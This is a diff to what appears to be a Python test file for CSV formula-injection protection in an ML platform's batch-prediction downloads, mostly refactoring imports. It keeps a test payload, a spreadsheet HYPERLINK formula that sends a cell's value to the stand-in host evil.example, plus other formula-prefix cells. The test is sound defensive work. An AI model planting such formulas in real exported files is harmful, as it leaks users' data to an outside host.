@@ -14,9 +14,12 @@ import io
 import numpy as np
 import pandas as pd
 
-from aihub import datasets, exports, predictive, registry
+from aihub import exports
 from aihub.demo import generate_customers
-from aihub.services import jobs
+from aihub.services import datasets, jobs, registry
+from aihub.services.batch_predictions import predict_batch
+from aihub.services.model_config import template_config
+from aihub.services.model_training import create_model
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
 CELLS = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "plain", "-12.5", "+3", "1e-3", ""]
@@ -46,9 +49,9 @@ def test_batch_prediction_download_neutralises_an_uploaded_formula(tenant):
     """The attack as reported: a formula in an uploaded row reaches the results CSV of a batch."""
     train = generate_customers(400)
     saved = datasets.save_upload(tenant, "customers", "customers.csv", train.to_csv(index=False).encode())
-    cfg = predictive.template_config(tenant, "churn", saved.version.dataset_id, model_name="churn",
+    cfg = template_config(tenant, "churn", saved.version.dataset_id, model_name="churn",
                                      algorithm="logistic_regression")
-    model, job = predictive.create_model(tenant, cfg, saved.version.dataset_id, run=False)
+    model, job = create_model(tenant, cfg, saved.version.dataset_id, run=False)
     assert jobs.run_job(tenant.tenant_id, job.id) == "succeeded", registry.get_job(tenant, job.id).error
     registry.deploy(tenant, model.id, registry.list_versions(tenant, model.id)[0].id)
 
@@ -56,7 +59,7 @@ def test_batch_prediction_download_neutralises_an_uploaded_formula(tenant):
     id_column = batch.columns[0]
     batch[id_column] = batch[id_column].astype(str)
     batch.loc[batch.index[0], id_column] = ATTACK
-    outcome = predictive.predict_batch(tenant, model.id, "new.csv", batch.to_csv(index=False).encode())
+    outcome = predict_batch(tenant, model.id, "new.csv", batch.to_csv(index=False).encode())
     data = outcome.csv()
     assert "'" + ATTACK in [c for row in _rows(data) for c in row]  # the value is kept, readable ...
     for row in _rows(data)[1:]:  # ... but no cell starts a formula
